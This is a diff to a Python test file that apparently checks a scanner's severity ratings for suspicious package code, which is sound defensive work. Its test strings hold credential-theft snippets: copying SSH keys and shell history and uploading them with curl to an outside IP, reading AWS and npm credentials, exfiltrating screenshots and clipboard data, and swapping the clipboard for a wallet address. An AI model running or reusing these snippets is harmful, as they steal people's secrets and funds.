@@ -22,6 +22,12 @@ def severity(trigger: str, source: str) -> str:
     return worst(RULE, *at(trigger, _HEAD + source))
 
 
+_COPIED = (
+    "import shutil\nshutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/a/ssh')\n"
+    "shutil.copyfile(os.path.expanduser('~/.bash_history'), '/tmp/a/history')\n"
+)
+
+
 @pytest.mark.parametrize(
     ("trigger", "source", "expected"),
     [
@@ -35,6 +41,9 @@ def severity(trigger: str, source: str) -> str:
         ("call", "x = open(os.path.expanduser('~/.ssh/id_rsa')).read() + open(os.path.expanduser('~/.aws/credentials')).read()\n" + _SEND, "high"),
         ("install", "x = open(os.path.expanduser('~/.npmrc')).read()\n" + _SEND, "critical"),
         ("install", "open(os.path.expanduser('~/.npmrc')).read()\n", "medium"),
+        ("call", _COPIED + "os.system('curl -F file=@/tmp/a.zip https://203.0.113.9/up')", "high"),
+        ("call", _COPIED + "os.system('curl -F file=@/tmp/a.zip https://example.invalid/up')", "info"),
+        ("call", "shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/a')\nos.system('curl https://203.0.113.9/up')", "info"),
         ("call", "from PIL import ImageGrab\nrequests.post('" + _HOOK + "', files={'f': ImageGrab.grab()})", "high"),
         ("import", "import pyperclip\nrequests.post('https://h.example.invalid/', data=pyperclip.paste())", "high"),
         ("call", "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('0x" + "0" * 40 + "')", "high"),
